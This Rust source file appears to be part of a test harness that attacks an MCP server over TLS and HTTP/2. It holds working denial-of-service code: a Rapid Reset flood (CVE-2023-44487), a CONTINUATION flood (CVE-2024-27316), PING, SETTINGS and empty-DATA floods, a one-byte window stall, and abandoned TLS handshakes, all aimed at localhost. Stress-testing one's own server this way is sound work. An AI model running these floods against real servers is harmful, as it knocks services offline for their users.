//! Attackers on TLS and on HTTP/2, frame by frame (RFC 9113, section 4.1).

use std::io;
use std::sync::{Arc, OnceLock};
use std::time::Duration;

use mcip_core::tls::{ClientTls, Pem, Roots};
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout_at};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_rustls::rustls::ClientConfig;

use super::calls::drain;
use super::{One, Tally};
use crate::wire::call;
use crate::{AUTHORITY, HOSTILE};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut out = vec![length[1], length[2], length[3], kind, flags];
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A field that enters no table (RFC 7541, section 6.2.2).
fn field(out: &mut Vec<u8>, name: &str, value: &str) {
    out.push(0);
    for text in [name, value] {
        out.push(u8::try_from(text.len()).unwrap_or(0) & 0x7f);
        out.extend_from_slice(text.as_bytes());
    }
}

/// The header of a call.
fn header() -> Vec<u8> {
    // POST and https have numbers.
    let mut out = vec![0x83, 0x87];
    field(&mut out, ":path", "/mcp");
    field(&mut out, ":authority", "localhost");
    field(&mut out, "authorization", &format!("Bearer {HOSTILE}"));
    field(&mut out, "content-type", "application/json");
    field(&mut out, "accept", "application/json, text/event-stream");
    field(&mut out, "mcp-protocol-version", "2026-07-28");
    field(&mut out, "mcp-method", "tools/call");
    field(&mut out, "mcp-name", "slow");
    out
}

/// What clients trust, and speak.
fn config(protocol: &[u8]) -> Option<Arc<ClientConfig>> {
    static TLS: OnceLock<Option<ClientTls>> = OnceLock::new();
    let load = || {
        let path = std::env::var_os(AUTHORITY)?;
        let pem = std::fs::read_to_string(path).ok()?;
        ClientTls::builder().roots(Roots::only(Pem::text(pem))).load().ok()
    };
    let tls = TLS.get_or_init(load).as_ref()?;
    Some(tls.with_protocols(&[protocol]).config())
}

type Stream = TlsStream<TcpStream>;

async fn secure(one: &One, protocol: &[u8]) -> Option<Stream> {
    let stream = one.connect().await?;
    let name = "localhost".try_into().ok()?;
    let connecting = TlsConnector::from(config(protocol)?).connect(name, stream);
    match timeout_at(one.until, connecting).await {
        Ok(Ok(stream)) => Some(stream),
        Ok(Err(_)) => {
            Tally::add(&one.tally.closed, 1);
            sleep(Duration::from_millis(50)).await;
            None
        }
        Err(_) => None,
    }
}

/// A connection of HTTP/2 on which nothing was asked yet.
async fn open(one: &One) -> Option<(ReadHalf<Stream>, WriteHalf<Stream>)> {
    let mut stream = secure(one, b"h2").await?;
    let begin = [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(),
        &frame(SETTINGS, 0, 0, b""),
    ]
    .concat();
    stream.write_all(&begin).await.ok()?;
    Some(tokio::io::split(stream))
}

/// Sends what comes until the server ends it.
async fn send<F>(one: &One, mut next: impl FnMut(u32) -> F)
where
    F: AsRef<[u8]>,
{
    let Some((reader, mut writer)) = open(one).await else {
        return;
    };
    let sending = async {
        for number in 0.. {
            writer.write_all(next(number).as_ref()).await?;
            writer.flush().await?;
            Tally::add(&one.tally.sent, 1);
        }
        Ok::<(), io::Error>(())
    };
    tokio::select! {
        _ = timeout_at(one.until, sending) => {}
        () = drain(reader) => {}
    }
    Tally::add(&one.tally.closed, u64::from(one.goes_on()));
}

/// Requests that are reset at once (CVE-2023-44487), fifty at a time.
pub async fn resets(one: &One) {
    const AT_A_TIME: u32 = 50;
    let header = header();
    send(one, |number| {
        let mut out = Vec::new();
        for next in 0..AT_A_TIME {
            let stream = 1 + 2 * (number * AT_A_TIME + next);
            out.extend(frame(HEADERS, END_HEADERS, stream, &header));
            out.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
        out
    })
    .await;
}

/// Frames that cost their sender nothing: headers without end (CVE-2024-27316), pings, settings, empty data, windows.
pub async fn floods(one: &One) {
    let header = header();
    let body = call(1, "slow", &json!({})).to_string();
    let open = frame(HEADERS, END_HEADERS, 1, &header);
    match one.number % 5 {
        0 => {
            let mut junk = Vec::new();
            field(&mut junk, "x-junk", &"x".repeat(100));
            let begin = frame(HEADERS, 0, 1, &header);
            let more = frame(CONTINUATION, 0, 1, &junk.repeat(100));
            send(one, |number| if number == 0 { begin.clone() } else { more.clone() }).await;
        }
        1 => send(one, |_| frame(PING, 0, 0, &[0; 8]).repeat(100)).await,
        2 => send(one, |_| frame(SETTINGS, 0, 0, b"").repeat(100)).await,
        3 => {
            let empty = frame(DATA, 0, 1, b"").repeat(100);
            send(one, |number| if number == 0 { open.clone() } else { empty.clone() }).await;
        }
        _ => {
            // A window of one byte, and then a call whose answer does not fit.
            let small = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]);
            let whole = [small, open, frame(DATA, END_STREAM, 1, body.as_bytes())].concat();
            let more = frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes());
            send(one, |number| if number == 0 { whole.clone() } else { more.clone() }).await;
        }
    }
}

/// Handshakes that come to nothing, whole or half.
pub async fn handshakes(one: &One) {
    if one.number % 2 == 0 {
        drop(secure(one, b"h2").await);
        Tally::add(&one.tally.sent, 1);
        return;
    }
    let Some(mut stream) = one.connect().await else { return };
    // The beginning of a ClientHello of 512 bytes.
    if stream.write_all(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]).await.is_ok() {
        Tally::add(&one.tally.sent, 1);
        let mut byte = [0];
        let _ = timeout_at(one.until, stream.read(&mut byte)).await;
        Tally::add(&one.tally.closed, u64::from(one.goes_on()));
    }
}
